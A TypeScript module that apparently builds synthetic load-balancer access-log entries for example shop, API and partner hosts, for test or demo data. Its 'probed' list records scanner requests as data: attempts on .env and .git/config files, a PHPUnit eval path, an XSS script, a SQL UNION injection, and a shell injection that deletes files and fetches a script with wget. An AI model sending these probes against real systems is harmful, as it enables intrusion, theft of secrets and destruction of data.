import type { TargetGroup } from './site.ts';
import { targetGroups } from './site.ts';

/** What is asked for, with those parts of its lines that are always the same. */
export interface Endpoint {
  host: string;
  targetGroup: TargetGroup;
  /** Median bytes of request and answer. */
  received: number;
  sent: number;
  /** The listener rule that matched. */
  priority: number;
  /** Whether a WAF looks first. */
  waf: boolean;
  /** Where it is over TLS, and the request lines without quotation marks. */
  url: string;
  requests: { plain: string; http1: string; http2: string };
  /** Actions, redirect URL and error reason of a request that was forwarded. */
  forwarded: string;
  /** `classification` and its reason. */
  classification: string;
  /** Transformed host and URI, and status of the transform, of a request that was forwarded. */
  transform: string;
}

interface EndpointDraft {
  method: string;
  host: string;
  path: string;
  targetGroup: TargetGroup;
  received: number;
  sent: number;
  priority: number;
  /** What the rule's transform makes of the path; empty without one. */
  transformed: string;
}

function makeEndpoint(draft: EndpointDraft): Endpoint {
  const { method, host, path, transformed } = draft;
  const url = `https://${host}:443${path}`;
  const waf = method === 'POST';
  return {
    ...draft,
    waf,
    url,
    requests: {
      plain: `${method} http://${host}:80${path} HTTP/1.1`,
      http1: `${method} ${url} HTTP/1.1`,
      http2: `${method} ${url} HTTP/2.0`,
    },
    forwarded: `"${waf ? 'waf,' : ''}${transformed === '' ? '' : 'rewrite,'}forward" "-" "-"`,
    classification: path.includes(' ') ? '"Acceptable" "SpaceInUri"' : '"-" "-"',
    transform: transformed === '' ? '"-" "-" "-"' : `"-" "${transformed}" "Success"`,
  };
}

type Draft = [
  weight: number,
  method: string,
  path: string,
  received: number,
  sent: number,
  group: TargetGroup,
  priority: number,
];

const { shop, media, search, webhooks } = targetGroups;
const www: readonly Draft[] = [
  [10, 'GET', '/', 640, 24_000, shop, 0],
  [14, 'GET', '/products/#', 690, 31_000, shop, 0],
  [8, 'GET', '/category/garden?page=#', 670, 38_000, shop, 0],
  [4, 'GET', '/cart', 820, 9_000, shop, 0],
  [2, 'POST', '/cart/items', 1_180, 1_400, shop, 0],
  [2, 'POST', '/checkout', 2_400, 3_800, shop, 0],
  [3, 'GET', '/account/orders/#', 900, 12_000, shop, 0],
  [1, 'GET', '/favicon.ico', 420, 4_300, media, 10],
  [1, 'GET', '/robots.txt', 310, 180, shop, 0],
];
const assets: readonly Draft[] = [
  [14, 'GET', '/media/#.webp', 520, 46_000, media, 10],
  [6, 'GET', '/static/app.5f2c#.js', 500, 92_000, media, 11],
  [4, 'GET', '/static/site.91be.css', 500, 21_000, media, 11],
  [1, 'GET', '/media/video/#.mp4', 560, 2_400_000, media, 10],
];
const api: readonly Draft[] = [
  [22, 'GET', '/v1/search?q=lamp&page=#', 730, 7_200, search, 20],
  [12, 'GET', '/v1/stock?sku=#', 640, 900, search, 20],
  [10, 'GET', '/v1/products/#', 640, 2_900, search, 20],
  [5, 'POST', '/v1/events', 1_900, 210, webhooks, 30],
  [3, 'PUT', '/v1/baskets/#', 1_500, 1_300, search, 20],
  [1, 'DELETE', '/v1/baskets/#', 700, 160, search, 20],
  [2, 'OPTIONS', '/v1/search', 610, 240, search, 20],
];
const suggest: readonly Draft[] = [
  [9, 'GET', '/suggest?q=la&n=#', 560, 1_100, search, 21],
  [4, 'GET', '/facets?category=#', 580, 2_600, search, 21],
];
const partner: readonly Draft[] = [
  [2, 'POST', '/hooks/order', 3_600, 190, webhooks, 31],
  [2, 'GET', '/feeds/stock-#.json', 690, 240_000, search, 22],
];

const VARIANTS = 40;

function expand(host: string, drafts: readonly Draft[]): Endpoint[] {
  return drafts.flatMap(([weight, method, path, received, sent, targetGroup, priority]) => {
    const variants = Array.from({ length: path.includes('#') ? VARIANTS : 1 }, (_, number) => {
      const filled = path.replace('#', (1_000 + number * 37).toString());
      const transformed = filled.startsWith('/media/video') ? filled.replace('/media/video', '/origin/video') : '';
      return makeEndpoint({ method, host, path: filled, targetGroup, received, sent, priority, transformed });
    });
    return Array.from({ length: weight * 8 }, (_, i) => variants[(i * 7 + path.length) % variants.length]).filter(
      (endpoint) => endpoint !== undefined,
    );
  });
}

/** Per load balancer, each as often as its weight says. */
export const endpoints = {
  web: [...expand('www.example.com', www), ...expand('static.example.com', assets)],
  api: [
    ...expand('api.example.com', api),
    ...expand('search.example.com', suggest),
    ...expand('partner.example.org', partner),
  ],
} as const satisfies Record<string, readonly Endpoint[]>;

/** What the scraper wants. */
export const scraped: readonly Endpoint[] = expand('api.example.com', api.slice(1, 2));

/** What vulnerability scanners ask for; ALB writes URLs as they come, with quotation marks as \x22. */
const probed: readonly string[] = [
  '/.env',
  '/wp-login.php',
  '/.git/config',
  '/actuator/health',
  '/cgi-bin/luci/;stok=/locale',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/search?q=\\x22><script>alert(1)</script>',
  '/index.php?id=1 UNION SELECT 1,2,3--',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.77/x.sh',
];

function makeProbes(host: string, targetGroup: TargetGroup): Endpoint[] {
  return probed.map((path) =>
    makeEndpoint({ method: 'GET', host, path, targetGroup, received: 350, sent: 900, priority: 0, transformed: '' }),
  );
}
export const probes = {
  web: makeProbes('www.example.com', shop),
  api: makeProbes('api.example.com', search),
} as const satisfies Record<string, readonly Endpoint[]>;
